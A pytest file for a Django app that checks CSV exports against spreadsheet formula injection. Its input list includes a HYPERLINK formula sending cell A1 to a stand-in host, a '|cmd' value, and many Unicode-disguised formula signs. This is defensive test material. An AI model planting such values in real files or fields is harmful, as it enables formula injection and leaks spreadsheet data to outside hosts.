"""No cell of a table that people or staff download computes, however a spreadsheet opens the file."""

import csv
import io
import unicodedata

import pytest
from django.test import Client

from ptfi.accounts.models import User
from tests.support.cast import SignedIn, Suggest, acting_for_self
from tests.support.staff import file_of, staff_of
from traits import decisions

pytestmark = pytest.mark.django_db(transaction=True)
TEXTS = [
    '=HYPERLINK("http://example.invalid/"&A1,"see")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "⁺1",
    "⁻1",
    "−1+1",
    "\u200f\u2212SUM(A1)",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u3000 ＝1+1",
    "\ufeff\xa0 \u2060+1",
    "\u3164=1",
    "'=1+1",
    "+49 30 1234",
    "-item",
    "@home",
    "|cmd",
    "\t=1+1",
    "\r=1",
    "\n\n=1+1",
    "  \n  =1",
    "a;=1+1",
    "a;=1+1;b",
    'a;"=1+1;b',
    "a;\ufeff＝1+1;",
    "a\t=1+1\tb",
    "a\n=1+1\nb",
    "a\r\n \xa0@b",
    "a\x0b=1",
    "a\u2028=1",
    'a","=1+1',
    '"=1+1"',
    ";;=1",
    '"',
    ";",
    "\n" * 200,
    "=" * 200,
]
SIGNS = tuple("=+-@−")
OPENED_WITH = (",", ";", "\t")


def computing(text: str, separator: str) -> list[str]:
    """The cells that a spreadsheet might take for formulas: it may skip what nobody sees."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    return [cell for cell in cells if _seen(cell).startswith(SIGNS)]


def _seen(cell: str) -> str:
    folded = unicodedata.normalize("NFKC", cell)
    return "".join(char for char in folded if unicodedata.category(char)[0] not in "CZ" and char != "\u1160")


@pytest.mark.parametrize("separator", OPENED_WITH)
def test_no_cell_of_a_persons_log_computes(as_alice: Client, suggest: Suggest, alice: User, separator: str) -> None:
    for number, text in enumerate(TEXTS):
        candidate = suggest(alice, f"Likes {number}")
        decisions.reject(**acting_for_self(alice), candidate_id=candidate.pk, code="other", reason=text)
    raw = b"".join(as_alice.get("/persona/history/log.csv")).decode().removeprefix("\ufeff")
    assert computing(raw, separator) == []
    if separator == ",":
        reasons = [row["reason"] for row in csv.DictReader(io.StringIO(raw, newline=""))]
        assert [text.replace("'", "") for text in reasons] == [text.replace("'", "").strip() for text in TEXTS]
    # Saved by the spreadsheet, and opened again.
    saved = io.StringIO(newline="")
    csv.writer(saved, delimiter=separator).writerows(csv.reader(io.StringIO(raw, newline=""), delimiter=separator))
    assert [computing(saved.getvalue(), each) for each in (separator, ",")] == [[], []]


@pytest.mark.parametrize("separator", OPENED_WITH)
def test_no_cell_of_the_staffs_list_computes(
    signed_in: SignedIn, suggest: Suggest, alice: User, separator: str
) -> None:
    for text in TEXTS:
        suggest(alice, text, evidence=[text, text], trait_description=text, originating_models=[text])
    client = signed_in(staff_of("moderator", "support"))
    raw = file_of(client, "/admin/traits/extractedtraitcandidate/export/").removeprefix("\ufeff")
    assert len(list(csv.reader(io.StringIO(raw, newline="")))) == len(TEXTS) + 1
    assert computing(raw, separator) == []
